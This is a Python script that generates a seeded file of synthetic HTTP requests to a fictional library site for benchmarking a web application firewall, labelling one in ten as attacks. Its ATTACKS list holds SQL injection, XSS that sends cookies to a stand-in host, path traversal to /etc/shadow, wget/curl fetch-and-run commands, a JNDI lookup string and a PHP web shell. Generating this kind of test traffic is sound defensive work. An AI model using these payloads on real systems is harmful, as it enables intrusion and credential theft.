#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""Writes a file of requests for measurements of the WAF, the same each time.

    requests.py OUT [--seed N] [--count N]

A visit to a small library's site: catalogue pages, search, sign-in and order forms, a JSON
interface with documents of up to 8 KB, and one request in ten that attacks. The format is that of
`weir-bench waf`, all numbers little-endian: "REQS0001", u32 records; of each u32 bytes, u8 label
(0 GET, 1 form, 2 JSON, 3 attack), three zero bytes, the raw request.
"""
import argparse
import json
import random
import struct
from urllib.parse import quote, urlencode

GET, FORM, JSON, ATTACK = range(4)

AUTHORS = ["Ada Marsh", "Jón Pálsson", "Mei Lin Chua", "O. Featherstone", "R. de la Cruz",
           "Ines Köhler", "Tomasz Wrona", "Priya Raman"]
NOUNS = ["harbour", "lantern", "orchard", "glacier", "sparrow", "bridge", "archive", "compass",
         "meadow", "violin", "tide", "quarry", "loom", "beacon", "canyon", "almanac"]
ADJECTIVES = ["quiet", "northern", "forgotten", "silver", "second", "long", "paper", "winter"]
SENTENCES = [
    "The last train leaves the valley before dark, and nobody waits for it.",
    "She kept every letter; the drawer would no longer close.",
    "A guide to tides, knots and weather for people who sail in small boats.",
    "Returned with a coffee stain on page 12, otherwise as new.",
    "Please hold it at the desk until Thursday, I come by after work.",
]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/127.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
]
ATTACKS = [
    "0' UNION ALL SELECT login, secret FROM members LIMIT 5 -- -",
    "'; WAITFOR DELAY '0:0:7' --",
    "1) OR SLEEP(9)=0 -- ",
    "<script src=//198.51.100.20/x.js></script>",
    "<img src=q onerror=alert(document.domain)>",
    "javascript:fetch('//198.51.100.20/?'+document.cookie)",
    "../../../../../../etc/shadow",
    "....//....//windows/win.ini",
    "; wget http://198.51.100.20/a -O /tmp/a; sh /tmp/a",
    "$(curl -s 198.51.100.20/i.sh|bash)",
    "${jndi:rmi://198.51.100.20:1099/Object}",
    "<?php echo shell_exec($_GET['x']); ?>",
    "php://input",
    "__proto__[admin]=1;process.mainModule.require('child_process')",
    "http://198.51.100.20/r57.txt?",
    "%0d%0aLocation:%20http://198.51.100.20/",
]


class Maker:
    def __init__(self, seed):
        self.random = random.Random(seed)

    def title(self):
        return f"The {self.random.choice(ADJECTIVES)} {self.random.choice(NOUNS)}"

    def token(self, n):
        return "".join(self.random.choices("abcdefghjkmnpqrstuvwxyz23456789", k=n))

    def number(self, low, high):
        return self.random.randrange(low, high)

    def head(self, method, target, extra=()):
        fields = [
            ("Host", "books.example.net"),
            ("User-Agent", self.random.choice(AGENTS)),
            ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
            ("Accept-Language", self.random.choice(["en-GB,en;q=0.8", "pl,en;q=0.5", "de"])),
            ("Accept-Encoding", "gzip, deflate"),
            ("Referer", f"https://books.example.net/shelf/{self.number(1, 400)}"),
            ("Cookie", f"sid={self.token(26)}; shelf={self.number(1, 9)}; seen="
                       f"{self.number(10**8, 10**9)}.{self.number(10**8, 10**9)}"),
            ("Connection", "keep-alive"),
        ]
        lines = [f"{method} {target} HTTP/1.1"] + [f"{k}: {v}" for k, v in fields + list(extra)]
        return ("\r\n".join(lines) + "\r\n\r\n").encode()

    def with_body(self, target, kind, body):
        return self.head("POST", target, [("Content-Type", kind),
                                          ("Content-Length", str(len(body)))]) + body

    def get(self):
        kind = self.number(0, 4)
        if kind == 0:
            return self.head("GET", f"/covers/{self.token(12)}.webp")
        if kind == 1:
            return self.head("GET", f"/book/{self.number(1, 90000)}/{self.random.choice(NOUNS)}")
        query = {"q": self.title(), "author": self.random.choice(AUTHORS), "sort": "year",
                 "page": self.number(1, 40), "from": f"{self.number(1950, 2024)}-01-01"}
        chosen = dict(list(query.items())[:self.number(1, 6)])
        return self.head("GET", f"/search?{urlencode(chosen)}")

    def form_fields(self, size):
        fields = [("token", self.token(32)), ("name", self.random.choice(AUTHORS)),
                  ("mail", f"{self.token(7)}@example.org"), ("copies", self.number(1, 5))]
        while len(urlencode(fields)) < size:
            fields.append((f"note[{len(fields)}]", self.random.choice(SENTENCES)))
        return fields

    def form(self):
        body = urlencode(self.form_fields(self.random.choice([100, 250, 700, 2500]))).encode()
        return self.with_body("/orders/new", "application/x-www-form-urlencoded", body)

    def book(self):
        return {"id": self.number(1, 90000), "title": self.title(),
                "authors": self.random.sample(AUTHORS, self.number(1, 3)),
                "lent": self.random.random() < 0.3, "price": self.number(300, 4000) / 100,
                "shelf": {"floor": self.number(0, 4), "code": self.token(6)},
                "about": self.random.choice(SENTENCES)}

    def json(self):
        size = self.random.choice([200, 600, 1800, 4000, 8000])
        document = {"session": self.token(20), "books": []}
        while len(json.dumps(document)) < size:
            document["books"].append(self.book())
        return self.with_body("/api/lists", "application/json", json.dumps(document).encode())

    def attack(self, number):
        text, place = ATTACKS[number % len(ATTACKS)], (number // 3 + number) % 4
        if place == 0:
            return self.head("GET", f"/search?page=2&q={quote(text)}")
        if place == 1:
            body = urlencode(self.form_fields(80) + [("comment", text)]).encode()
            return self.with_body("/orders/new", "application/x-www-form-urlencoded", body)
        if place == 2:
            body = json.dumps({"books": [self.book()], "comment": text}).encode()
            return self.with_body("/api/lists", "application/json", body)
        return self.head("GET", "/", [("X-Forwarded-Host", "books.example.net"),
                                      ("X-Comment", text)]).replace(b"GET / ", (
                                          f"GET /book/{quote(text)} ").encode())


def requests(seed=1, count=200):
    """[(label, bytes)]: six in ten GET, and of ten two forms, one JSON, one attack; the JSON share
    is what a site with an interface has."""
    maker = Maker(seed)
    made = []
    for i in range(count):
        place = i % 10
        if place < 6:
            made.append((GET, maker.get()))
        elif place < 8:
            made.append((FORM, maker.form()))
        elif place < 9:
            made.append((JSON, maker.json()))
        else:
            made.append((ATTACK, maker.attack(i // 10)))
    maker.random.shuffle(made)
    return made


def write(path, made):
    with open(path, "wb") as f:
        f.write(b"REQS0001" + struct.pack("<I", len(made)))
        for label, raw in made:
            f.write(struct.pack("<IB3x", len(raw), label) + raw)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n", maxsplit=1)[0])
    parser.add_argument("out")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=200)
    args = parser.parse_args()
    write(args.out, requests(args.seed, args.count))


if __name__ == "__main__":
    main()
